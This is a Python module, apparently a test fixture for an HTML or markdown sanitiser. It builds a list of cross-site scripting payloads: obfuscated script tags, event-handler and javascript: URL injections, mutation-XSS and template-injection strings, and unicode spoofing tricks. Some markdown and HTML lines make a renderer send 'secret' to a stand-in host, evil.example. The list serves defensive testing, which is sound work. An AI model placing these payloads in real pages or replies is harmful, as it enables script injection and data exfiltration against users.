"""Texts that would run, call out or deceive if anything took them for more than text."""

from __future__ import annotations

from typing import Final

EVIL: Final = "https://evil.example/steal"

_SCRIPTS: Final = (
    "<script>hit(1)</script>",
    "<ScRiPt >hit(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>hit(1)</script>",
    "<<script>hit(1)//<</script>",
    "<script>hit`1`</script",
    "</textarea><script>hit(1)</script>",
    "</title><script>hit(1)</script>",
    "</style><script>hit(1)</script>",
    "--><script>hit(1)</script><!--",
    "]]><script>hit(1)</script>",
    "{{constructor.constructor('hit(1)')()}}",
    "${hit(1)}",
    "<%= hit(1) %>",
    "<template><script>hit(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit(1)>'>",
    "<svg><script>hit(1)</script></svg>",
    "<svg><script xlink:href=data:,hit(1)></script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(1)>",
)
_TAGS: Final = (
    "img src=x",
    "img src=x onload=hit(2)",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "details open ontoggle=hit(3)",
    "input autofocus onfocus=hit(4)",
    "select autofocus onfocus=hit(4)",
    "iframe srcdoc='<script>parent.hit(5)</script>'",
    "object data=javascript:hit(6)",
    "embed src=javascript:hit(6)",
    "marquee onstart=hit(7)",
    "meter onmouseover=hit(8)",
    "x contenteditable onfocus=hit(9) autofocus tabindex=1",
    "a href=javascript:hit(10)",
    "button formaction=javascript:hit(11)",
    "isindex type=image src=x",
    "animate onbegin=hit(12) attributeName=x dur=1s",
    "style onload=hit(13)",
)
_HANDLERS: Final = (
    "onerror=hit(0)",
    "onload=hit(0)",
    "onmouseover=hit(0) style=position:fixed;inset:0",
    "onfocus=hit(0)",
)
_LINKS: Final = (
    "javascript:hit(1)",
    "JaVaScRiPt:hit(1)",
    " javascript:hit(1)",
    "java\tscript:hit(1)",
    "java\nscript:hit(1)",
    "javascript&colon;hit(1)",
    "&#106;avascript:hit(1)",
    "&#x6A&#x61vascript:hit(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>hit(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    "blob:null/0",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:evil.example",
    "http://user:pass@evil.example/",
    "javascript://evil.example/%0ahit(1)",
    "\x01javascript:hit(1)",
    "view-source:javascript:hit(1)",
)
_WAYS: Final = (
    "[click]({})",
    "[click](<{}>)",
    "[click]({} 'title')",
    "<{}>",
    "[click][r]\n\n[r]: {}",
    "![picture]({})",
)
_CALLS: Final = (
    f"![x]({EVIL}?q=secret)",
    f"![x][r]\n\n[r]: {EVIL}?q=secret",
    f"[![x]({EVIL}?q=a)]({EVIL}?q=b)",
    f"<img src={EVIL}?q=secret>",
    f"<img srcset='{EVIL} 2x'>",
    f"<link rel=stylesheet href={EVIL}>",
    f"<link rel=preload as=image href={EVIL}>",
    f"<link rel=dns-prefetch href={EVIL}>",
    f"<style>@import url({EVIL});*{{background:url({EVIL})}}</style>",
    f"<p style='background:url({EVIL})'>x",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}>",
    f"<iframe src={EVIL}>",
    f"<form action={EVIL}><button autofocus>send",
    f"<video poster={EVIL}>",
    f"<audio src={EVIL} autoplay>",
    f"<object data={EVIL}>",
    f"<table background={EVIL}>",
    f"<svg><image href={EVIL}>",
    f"<svg><use href={EVIL}#x>",
    f"<body background={EVIL}>",
    f"<a ping={EVIL} href=#>x",
    f"<input type=image src={EVIL}>",
    f"<portal src={EVIL}>",
)
_SIGNS: Final = (
    "\u202egnp.exe\u202c",
    "a\u0000b",
    "\ud7ff\ue000\ue001",
    "\u2e4f\ue000\u2e4f [1] \u2e4f\ue001\u2e4f",
    "\ufdfd" * 20,
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 20,
    "|a|b|\n|-|-|\n|<img src=x onerror=hit(1)>|`<b>`|",
    "```html\n<img src=x onerror=hit(1)>\n```",
    "- [x] <input type=checkbox onclick=hit(1)>",
    "&lt;img src=x onerror=hit(1)&gt;",
    "&#60;img src=x onerror=hit(1)&#62;",
    "%3Cimg%20src=x%20onerror=hit(1)%3E",
    "\\<img src=x onerror=hit(1)>",
    ">" * 200 + "<img src=x onerror=hit(1)>",
    "[" * 300 + "x](javascript:hit(1))",
    "constructor __proto__ toString",
)

PAYLOADS: Final = tuple(
    dict.fromkeys(
        (
            *_SCRIPTS,
            *(f"<{tag} {_HANDLERS[i % 4]}>" for i, tag in enumerate(_TAGS)),
            *(f"'\"><{tag} {_HANDLERS[(i + 1) % 4]}>" for i, tag in enumerate(_TAGS)),
            *(way.format(link) for link in _LINKS for way in _WAYS),
            *_CALLS,
            *_SIGNS,
        )
    )
)
